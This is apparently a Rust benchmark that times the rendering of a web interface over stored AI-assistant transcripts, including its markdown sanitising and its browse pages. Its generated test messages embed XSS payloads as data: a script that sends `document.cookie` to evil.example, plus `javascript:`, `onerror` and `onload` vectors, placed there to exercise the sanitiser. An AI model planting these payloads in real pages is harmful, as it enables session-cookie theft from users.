//! The pages for people (`src/web/`): server-side render time of a skill's result
//! page once the call has returned (issue 31: ≤ 5 ms p95 for a 15-row result).
//!
//! A store of long, hostile, markdown-heavy messages is written (15 of them match the
//! search term, each ~3,500 characters: headings, lists, a table, fenced code, links,
//! a `javascript:` link, raw `<script>`, `<img onerror>`, multibyte text), the bundled
//! skills are loaded over it, and each case's call runs once through `Host::call`.
//! Then [`skills::web::skill::result`] — the function `GET /skills/{name}` answers
//! with after the call (result table, citation links, the template's markdown through
//! pulldown-cmark and ammonia, the page template) — renders that same output again and
//! again; the store is not read while timing.
//!
//! Cases: `get-conversation` with 15 messages of up to 4,000 characters each (the
//! largest 15-row result a bundled skill returns) and `search-conversations` with 15
//! rows (200-character previews, its default limit).
//!
//! Printed per case: wall-clock p50 and p95, and the rendering thread's CPU time (what
//! the render itself costs, without the time another process held the core).
//!
//! Then the browse pages (issue 41), server side, skill calls included (each page's
//! queries — the heatmap's aggregate too — and its render): the index (activity
//! charts), `/conversations` (plain and filtered by source, project and one day),
//! `/projects`, a project page, a conversation page, `/memories` and a memory page.
//! The conversation store is the generated one `benches/search.rs` uses
//! (`BENCH_PAGES_MESSAGES` messages, default 1,000,000, seed `BENCH_SEED`;
//! [`skills::bench::gen`], kept under `BENCH_DIR` between runs), the memory store
//! `BENCH_PAGES_MEMORIES` generated memories (default 10,000). The pages' clock is the
//! newest message's time, so the heatmap's year holds half of the generated messages.
//! Each page is answered by the function its route calls, on a tokio runtime,
//! `BENCH_PAGE_RUNS` times (default 100) after one warm-up; p50 and p95 wall-clock and
//! the process's CPU time (DuckDB's threads included), with the load average.
//!
//! Environment: `BENCH_RUNS` (timed renders per case, default 500); `BENCH_STAGES=1`
//! also prints the time of the markdown step and of pulldown-cmark and ammonia alone
//! (on stderr), and the browse pages' skill calls timed alone (`Host::call`, no
//! template: the page's render is the rest); `BENCH_PAGES_MESSAGES=0` skips the
//! browse pages; `BENCH_PAGES_ONLY=TEXT` times only the browse pages whose name holds
//! `TEXT` (`projects/<project>` for a project page: old and new binaries interleaved,
//! or under `perf record`).
#![allow(clippy::print_stdout, clippy::unwrap_used)]

mod common;

use std::sync::Arc;
use std::time::{Duration, Instant};

use anyhow::{ensure, Context as _, Result};
use chrono::TimeZone;
use common::{fmt_dur, Stats};
use skills::host::Host;
use skills::ingest::Message;
use skills::mcp::catalog::Catalog;
use skills::stores::conversations::ConversationStore;
use skills::stores::StorePaths;
use skills::web::Pages;

/// Rows in each result.
const ROWS: usize = 15;

/// The term every benchmark message holds.
const TERM: &str = "renderbench";

/// Message `i` of the benchmark conversation: ~3,500 characters of what transcripts
/// hold — markdown of every kind, raw HTML a browser would run, multibyte text.
fn content(i: usize) -> String {
    let mut text = format!(
        "## Step {i}: {TERM} the login flow\n\n\
         We looked at **the session cookie** and `SameSite=Lax` again; see \
         [the RFC](https://www.rfc-editor.org/rfc/rfc6265) and \
         [this](javascript:alert(document.cookie)). Straße, 東京, Σοφία, café 🚀.\n\n\
         <script>fetch('https://evil.example/?c='+document.cookie)</script>\n\
         <img src=x onerror=alert({i})> and \"><svg onload=alert(1)>\n\n\
         1. read `src/auth/session.rs`\n2. move the check before the redirect\n\
         3. keep the `|` pipes | in | cells\n\n\
         | file | lines | why |\n|---|---|---|\n\
         | `session.rs` | 120 | cookie |\n| `login.rs` | 48 | redirect |\n\
         | `guard.rs` | 95 | <b>origin</b> |\n\n\
         ```rust\n"
    );
    for line in 0..24 {
        text.push_str(&format!(
            "    let value_{line} = request.headers().get(\"x-{line}\").map(|v| v.len()).unwrap_or({i});\n"
        ));
    }
    text.push_str("```\n\n");
    for para in 0..6 {
        text.push_str(&format!(
            "> Paragraph {para}: the reviewer asked whether <em>escaping</em> happens before \
             or after the markdown pass, and whether a `<details>` block or an \
             `onerror=` attribute could slip through the sanitiser; the answer is in \
             the test named `raw_html_shows_as_text` (message {i}).\n\n"
        ));
    }
    text
}

/// A data folder holding one conversation of [`ROWS`] benchmark messages plus others
/// that do not match.
fn store(dir: &std::path::Path) -> Result<()> {
    let store = ConversationStore::open_rw(&StorePaths::in_dir(dir).conversations)?;
    let mut messages = Vec::new();
    for (conversation, count, matching) in [("bench-conv", ROWS, true), ("other-conv", 40, false)] {
        for i in 0..count {
            let body = if matching {
                content(i)
            } else {
                format!("an unrelated message {i}")
            };
            messages.push(Message {
                source: "claude-code".into(),
                model: Some("claude-opus".into()),
                project: Some("/home/user/app".into()),
                conversation_id: conversation.into(),
                conversation_title: Some("Login flow <b>review</b>".into()),
                message_id: format!("{conversation}-msg-{i:03}"),
                parent_id: None,
                msg_index: i64::try_from(i)?,
                timestamp: chrono::Utc
                    .with_ymd_and_hms(2026, 3, 10, 10, u32::try_from(i)?, 0)
                    .single()
                    .context("a valid time")?,
                timestamp_is_fallback: false,
                role: if i % 2 == 0 { "user" } else { "assistant" }.into(),
                content_type: "text".into(),
                content: body,
                chars_cut: 0,
                has_attachment: false,
                has_citation: false,
                is_injected: false,
            });
        }
    }
    store.insert(&messages)?;
    Ok(())
}

fn main() -> Result<()> {
    if std::env::args().any(|a| a == "--list") {
        return Ok(());
    }
    let runs = common::env_usize("BENCH_RUNS", 500);
    let data = tempfile::tempdir()?;
    store(data.path())?;
    let skills_dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("skills");
    let host = Host::load(
        &skills_dir,
        skills::engines::Context::new(StorePaths::in_dir(data.path())),
    );
    let catalog = Arc::new(Catalog::fixed(Arc::new(host)));
    let pages = Pages::new(Arc::clone(&catalog))?;
    let served = catalog.current();

    let cases = [
        (
            "get-conversation",
            vec![
                ("conversation_id", "bench-conv"),
                ("limit", "15"),
                ("max_chars", "4000"),
            ],
        ),
        (
            "search-conversations",
            vec![("term", TERM), ("limit", "15")],
        ),
    ];
    let mut rows = Vec::new();
    for (name, pairs) in cases {
        let skill = served
            .host
            .get(name)
            .with_context(|| format!("no skill `{name}` in {}", skills_dir.display()))?;
        let pairs: Vec<(String, String)> = pairs
            .iter()
            .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
            .collect();
        let args = skills::web::form::arguments(&skill.meta.input_schema, &pairs);
        let output = served.host.call(name, args)?;
        let count = output.data["rows"].as_array().map_or(0, Vec::len);
        ensure!(count == ROWS, "`{name}` returned {count} rows, not {ROWS}");
        let text_chars = output.text.chars().count();
        let page = skills::web::skill::result(&pages, skill, &pairs, &output);
        ensure!(page.status() == 200, "`{name}`: status {}", page.status());
        let (mut wall, mut cpu) = (Vec::with_capacity(runs), Vec::with_capacity(runs));
        for _ in 0..runs.max(1) {
            let (t, c) = (Instant::now(), thread_cpu());
            let page = skills::web::skill::result(&pages, skill, &pairs, &output);
            cpu.push(thread_cpu().saturating_sub(c));
            wall.push(t.elapsed());
            drop(page);
        }
        let (stats, cpu) = (Stats::of(wall), Stats::of(cpu));
        let bytes = body_len(page)?;
        if std::env::var_os("BENCH_STAGES").is_some() {
            let (md, _) = measure(runs, || {
                skills::web::html::markdown(&output.text, &mut skills::web::html::Linker::default())
            });
            let mut raw = String::new();
            let (cm, _) = measure(runs, || {
                raw.clear();
                pulldown_cmark::html::push_html(
                    &mut raw,
                    pulldown_cmark::Parser::new_ext(
                        &output.text,
                        pulldown_cmark::Options::ENABLE_TABLES,
                    ),
                );
            });
            let (am, _) = measure(runs, || skills::web::html::sanitize(&raw));
            eprintln!(
                "{name}: markdown() p50 {} · pulldown-cmark alone {} · ammonia alone {}",
                fmt_dur(md.median),
                fmt_dur(cm.median),
                fmt_dur(am.median)
            );
        }
        rows.push(vec![
            format!("`{name}` ({ROWS} rows, rendered markdown {text_chars} chars)"),
            stats.runs.to_string(),
            fmt_dur(stats.median),
            fmt_dur(stats.p95),
            format!("{} / {}", fmt_dur(cpu.median), fmt_dur(cpu.p95)),
            format!("{:.0} KB", bytes as f64 / 1e3),
        ]);
    }
    println!("## Result page render (`skills::web::skill::result`), result already computed\n");
    println!("machine: {}\n", common::machine());
    common::table(
        &[
            "result page",
            "renders",
            "p50",
            "p95",
            "CPU p50 / p95",
            "page size",
        ],
        &rows,
    );
    println!(
        "p50 and p95 are wall-clock times; CPU is the rendering thread's own time \
         (`CLOCK_THREAD_CPUTIME_ID`), which leaves out time the thread waited for a core.\n"
    );
    browse()
}

/// The browse pages over a large store (see the module docs).
fn browse() -> Result<()> {
    use skills::bench::gen::Spec;
    let messages = common::env_usize("BENCH_PAGES_MESSAGES", 1_000_000);
    if messages == 0 {
        return Ok(());
    }
    let memories = common::env_usize("BENCH_PAGES_MEMORIES", 10_000);
    let runs = common::env_usize("BENCH_PAGE_RUNS", 100).max(1);
    let seed = common::env_usize("BENCH_SEED", 0x5EED) as u64;
    let conversations_dir = common::stores::conversation_store(Spec { messages, seed })?;
    let memories_dir = common::stores::plain_memory_store(memories, seed)?;
    // A store generated by an older version gets its summary tables here (a writable
    // open builds them, as `skills ingest` would); timed, as the one-off cost.
    let t = Instant::now();
    drop(ConversationStore::open_rw(
        &StorePaths::in_dir(&conversations_dir).conversations,
    )?);
    eprintln!(
        "writable open (summary tables built when missing): {:.1?}",
        t.elapsed()
    );
    let paths = StorePaths {
        conversations: StorePaths::in_dir(&conversations_dir).conversations,
        memories: StorePaths::in_dir(&memories_dir).memories,
    };
    let skills_dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("skills");
    let host = Host::load(&skills_dir, skills::engines::Context::new(paths.clone()));
    // One conversation, project and memory to open: the newest of each list.
    let conversations = host.call("list-conversations", serde_json::json!({"limit": 1}))?;
    let row = &conversations.data["rows"][0];
    let text = |v: &serde_json::Value, what: &str| -> Result<String> {
        Ok(v.as_str().with_context(|| format!("no {what}"))?.to_owned())
    };
    let (source, id) = (
        text(&row["source"], "conversation")?,
        text(&row["conversation_id"], "conversation")?,
    );
    let last = text(&row["last_message"], "last message time")?;
    let projects = host.call("list-projects", serde_json::json!({"limit": 1}))?;
    let project = text(&projects.data["rows"][0]["project"], "project")?;
    let listed = host.call("list-memories", serde_json::json!({"limit": 1}))?;
    let memory = text(&listed.data["rows"][0]["id"], "memory")?;
    // The generated messages span two years ending before today: the pages' clock is
    // set to the newest message, so the heatmap's year is full of messages.
    let now = chrono::DateTime::parse_from_rfc3339(&last)
        .context("last_message is RFC 3339")?
        .with_timezone(&chrono::Utc);
    let day = last[..10].to_owned();
    drop(host);
    let host = Host::load(
        &skills_dir,
        skills::engines::Context::new(paths).with_now(now),
    );
    let catalog = Arc::new(Catalog::fixed(Arc::new(host)));
    let pages = Pages::new(Arc::clone(&catalog))?;
    let runtime = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(1)
        .enable_all()
        .build()?;
    let pairs = |items: &[(&str, &str)]| -> Vec<(String, String)> {
        items
            .iter()
            .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
            .collect()
    };
    let by_source = pairs(&[("source", &source)]);
    let by_day = pairs(&[("since", &day), ("until", &day)]);
    let by_project = pairs(&[("project", &project)]);
    let none = pairs(&[]);
    let load_before = common::loadavg();
    let mut rows = Vec::new();
    let only = std::env::var("BENCH_PAGES_ONLY").unwrap_or_default();
    let mut time = |name: &str, page: &dyn Fn() -> skills::web::Response| -> Result<()> {
        if !name.contains(only.as_str()) {
            return Ok(());
        }
        let first = page();
        ensure!(first.status() == 200, "{name}: status {}", first.status());
        let bytes = body_len(first)?;
        let (mut wall, mut cpu) = (Vec::with_capacity(runs), Vec::with_capacity(runs));
        for _ in 0..runs {
            let (t, c) = (Instant::now(), process_cpu());
            drop(page());
            cpu.push(process_cpu().saturating_sub(c));
            wall.push(t.elapsed());
        }
        let (stats, cpu) = (Stats::of(wall), Stats::of(cpu));
        eprintln!(
            "{name}: p50 {} p95 {}",
            fmt_dur(stats.median),
            fmt_dur(stats.p95)
        );
        rows.push(vec![
            name.to_owned(),
            stats.runs.to_string(),
            fmt_dur(stats.median),
            fmt_dur(stats.p95),
            format!("{} / {}", fmt_dur(cpu.median), fmt_dur(cpu.p95)),
            format!("{:.0} KB", bytes as f64 / 1e3),
        ]);
        Ok(())
    };
    use skills::web::{conversation, conversations, index, memories, memory, projects};
    time("`/` (heatmap and month chart: 2 aggregate calls)", &|| {
        runtime.block_on(index::page(&pages, false))
    })?;
    time("`/conversations` (newest 50)", &|| {
        runtime.block_on(conversations::page(&pages, &none, false))
    })?;
    time("`/conversations?source=…`", &|| {
        runtime.block_on(conversations::page(&pages, &by_source, false))
    })?;
    time("`/conversations?project=…`", &|| {
        runtime.block_on(conversations::page(&pages, &by_project, false))
    })?;
    time("`/conversations?since=D&until=D` (a heatmap day)", &|| {
        runtime.block_on(conversations::page(&pages, &by_day, false))
    })?;
    time("`/projects`", &|| {
        runtime.block_on(projects::list(&pages, false))
    })?;
    time(
        "`/projects/<project>` (charts and 50 conversations)",
        &|| runtime.block_on(projects::page(&pages, &project, false)),
    )?;
    time("`/conversations/<source>/<id>`", &|| {
        runtime.block_on(conversation::page(
            &pages, &source, &id, None, None, None, false,
        ))
    })?;
    time("`/memories` (newest 50)", &|| {
        runtime.block_on(memories::page(&pages, &none, false))
    })?;
    time("`/memories/<id>`", &|| {
        runtime.block_on(memory::page(&pages, &memory, None, false))
    })?;
    println!(
        "## Browse pages, server side, skill calls included ({messages} messages, {memories} memories)\n"
    );
    println!("machine: {}\n", common::machine());
    println!(
        "conversations: {}\n",
        std::fs::read_to_string(conversations_dir.join("complete"))?.trim()
    );
    println!(
        "memories: {}\n",
        std::fs::read_to_string(memories_dir.join("complete"))?.trim()
    );
    println!(
        "clock: {now} (the newest message); load average {load_before} before, {} after\n",
        common::loadavg()
    );
    common::table(
        &[
            "page",
            "answers",
            "p50",
            "p95",
            "CPU p50 / p95",
            "page size",
        ],
        &rows,
    );
    println!(
        "Each answer is the function the page's route calls (skill calls through \
         `Host::call_with`, then the template), on a tokio runtime; CPU is the whole \
         process's (`CLOCK_PROCESS_CPUTIME_ID`: DuckDB's worker threads included).\n"
    );
    if std::env::var_os("BENCH_STAGES").is_some() {
        calls_alone(&catalog, now, &source, &id, &project, runs)?;
    }
    Ok(())
}

/// `BENCH_STAGES=1`: each skill call of the browse pages alone (`Host::call`: store
/// open, query, JSON rows, redaction; no template), so the page's render is the rest.
fn calls_alone(
    catalog: &Catalog,
    now: chrono::DateTime<chrono::Utc>,
    source: &str,
    id: &str,
    project: &str,
    runs: usize,
) -> Result<()> {
    use serde_json::json;
    let served = catalog.current();
    let today = now.date_naive();
    let first_day = (today - chrono::Duration::days(364)).to_string();
    let first_month = chrono::NaiveDate::from_ymd_opt(
        if chrono::Datelike::month(&today) == 12 {
            chrono::Datelike::year(&today)
        } else {
            chrono::Datelike::year(&today) - 1
        },
        chrono::Datelike::month(&today) % 12 + 1,
        1,
    )
    .context("a month start")?
    .to_string();
    let cases = [
        (
            "message-activity by day",
            "message-activity",
            json!({"by": "day", "since": first_day}),
        ),
        (
            "message-activity by month",
            "message-activity",
            json!({"by": "month", "since": first_month}),
        ),
        (
            "list-conversations (newest 50)",
            "list-conversations",
            json!({"limit": 50}),
        ),
        (
            "list-conversations (a project)",
            "list-conversations",
            json!({"limit": 50, "project": project}),
        ),
        (
            "list-conversations (one, a page header)",
            "list-conversations",
            json!({"limit": 1, "source": source, "conversation_id": id}),
        ),
        ("list-projects", "list-projects", json!({"limit": 500})),
        (
            "get-conversation (200 messages at most)",
            "get-conversation",
            json!({"conversation_id": id, "source": source, "limit": 200, "max_chars": 20000}),
        ),
    ];
    let mut rows = Vec::new();
    for (what, name, args) in cases {
        served.host.call(name, args.clone())?;
        let (stats, _) = measure(runs, || served.host.call(name, args.clone()).is_ok());
        rows.push(vec![
            what.to_owned(),
            fmt_dur(stats.median),
            fmt_dur(stats.p95),
        ]);
    }
    println!(
        "Skill calls alone (`Host::call`, no template), load average {}:\n",
        common::loadavg()
    );
    common::table(&["call", "p50", "p95"], &rows);
    Ok(())
}

/// The CPU time of every thread of this process so far.
fn process_cpu() -> Duration {
    cpu_clock(libc::CLOCK_PROCESS_CPUTIME_ID)
}

/// This thread's CPU time so far.
fn thread_cpu() -> Duration {
    cpu_clock(libc::CLOCK_THREAD_CPUTIME_ID)
}

/// The time of CPU clock `clock`, zero when it cannot be read.
fn cpu_clock(clock: libc::clockid_t) -> Duration {
    let mut now = libc::timespec {
        tv_sec: 0,
        tv_nsec: 0,
    };
    // SAFETY: `clock_gettime` writes one `timespec` through the valid pointer given.
    let ok = unsafe { libc::clock_gettime(clock, &raw mut now) } == 0;
    if !ok {
        return Duration::ZERO;
    }
    Duration::new(
        u64::try_from(now.tv_sec).unwrap_or(0),
        u32::try_from(now.tv_nsec).unwrap_or(0),
    )
}

/// [`common::measure`] with no time budget: every run is timed.
fn measure<T>(runs: usize, f: impl FnMut() -> T) -> (Stats, T) {
    common::measure(runs, Duration::MAX, f)
}

/// The bytes of a page's body (the page is built in full before it is returned).
fn body_len(page: skills::web::Response) -> Result<usize> {
    use http_body_util::BodyExt;
    let runtime = tokio::runtime::Builder::new_current_thread().build()?;
    let body = runtime.block_on(page.into_body().collect())?;
    Ok(body.to_bytes().len())
}
